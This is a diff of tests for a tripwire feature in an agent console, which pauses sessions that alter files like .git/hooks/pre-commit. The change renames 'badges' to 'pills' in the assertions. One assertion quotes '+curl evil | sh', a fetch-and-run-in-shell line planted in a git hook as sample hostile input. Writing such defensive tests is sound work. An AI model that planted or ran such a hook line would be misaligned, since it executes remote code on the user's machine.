@@ -107,7 +107,7 @@ async def test_a_paused_session_is_a_queue_item_and_resume_continues_it(env, clo
             assert f"TRIPWIRE  session {sid} modified .git/hooks/pre-commit" in text
             detail = app.views["queue"].detail.plain
             assert "+curl evil | sh" in detail and "The session is stopped" in detail
-            assert app.badges.get("tripwire") == "1 session paused by tripwire"
+            assert app.pills.get("tripwire") == "1 session paused by tripwire"
             footer = text.splitlines()[-1]
             assert "r resume" in footer and "K kill" in footer and "p keep paused" in footer
             assert "approve" not in footer and "deny" not in footer
@@ -125,7 +125,7 @@ async def test_a_paused_session_is_a_queue_item_and_resume_continues_it(env, clo
             assert f"resumed: session {sid}" in status(app)
             assert wait_for(lambda: not stopped(pid))
             assert wait_for(lambda: counter.exists() and counter.read_text() != before)
-            assert app.badges.get("tripwire") == ""
+            assert app.pills.get("tripwire") == ""
             with d.operator() as op:
                 assert op.call("tripwire.list")["items"] == []
         finally:
@@ -162,7 +162,7 @@ async def test_an_item_resolved_by_another_operator_leaves_the_queue(env, clock)
             with d.operator() as other:
                 other.call("tripwire.resolve", {"id": ident, "action": "keep_paused"})
             await until(pilot, lambda: app.pending.get(ident) is None)
-            assert app.badges.get("tripwire") == ""
+            assert app.pills.get("tripwire") == ""
             assert stopped(pid)  # kept paused
             clock.advance(5)
             await pilot.press("r")  # nothing left to resume
@@ -273,10 +273,10 @@ async def test_the_header_says_when_pause_falls_back_to_a_process_walk(clock):
     with running_daemon(policy, env={"AGENT_CONSOLE_NO_CGROUP": "1"}) as d:
         app = make_app(d, clock)
         async with app.run_test(size=SIZE) as pilot:
-            await until(pilot, lambda: app.badges.get("pause-mode"))
+            await until(pilot, lambda: app.pills.get("pause-mode"))
             assert "tripwire pauses by process walk" in screen_text(app)
     with running_daemon(policy) as d:
         app = make_app(d, clock)
         async with app.run_test(size=SIZE) as pilot:
             await until(pilot, lambda: app.watch_monitor.loaded)
-            assert app.badges.get("pause-mode") == ""
+            assert app.pills.get("pause-mode") == ""
